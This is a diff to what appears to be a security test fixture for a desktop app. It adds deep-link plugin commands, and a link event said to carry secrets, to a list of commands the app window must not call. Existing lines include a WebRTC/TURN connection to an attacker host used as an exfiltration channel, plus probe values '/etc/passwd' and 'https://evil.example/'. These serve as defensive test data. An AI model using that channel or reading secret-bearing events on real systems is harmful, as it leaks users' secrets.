@@ -58,6 +58,9 @@ export const RESOURCE_LOADS = [
   "const p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + new URL(evil).host + '?transport=tcp', username: 'a', credential: 'b' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)).catch(() => 0);",
 ];
 
+/** The event that carries the app's links, which contain secrets. */
+export const LINK_EVENT = "deep-link://new-url";
+
 /** Commands of the framework and of plugins, installed or not. The window may call none of them. */
 export const FOREIGN_COMMANDS = [
   ...["listen", "unlisten", "emit", "emit_to"].map((one) => `plugin:event|${one}`),
@@ -109,6 +112,7 @@ export const FOREIGN_COMMANDS = [
   ...["new", "get_by_id", "remove_by_id", "set_icon", "set_menu", "set_title"].map((one) => `plugin:tray|${one}`),
   ...["new", "rgba", "size", "from_path", "from_bytes"].map((one) => `plugin:image|${one}`),
   "plugin:resources|close",
+  ...["get_current", "register", "unregister", "is_registered"].map((one) => `plugin:deep-link|${one}`),
   ...["open", "save", "message", "ask", "confirm"].map((one) => `plugin:dialog|${one}`),
   ...["load", "get_store", "set", "get", "has", "delete", "clear", "keys", "values", "entries", "reload", "save"].map(
     (one) => `plugin:store|${one}`,
@@ -141,7 +145,11 @@ export const FOREIGN_ARGUMENTS = {
   path: "/etc/passwd",
   url: "https://evil.example/",
   label: "main",
-  event: "change",
+  event: LINK_EVENT,
+  target: { kind: "Any" },
+  handler: 1,
+  eventId: 1,
+  protocol: "org.bursar.desktop",
   payload: {},
   options: {},
   value: 1,
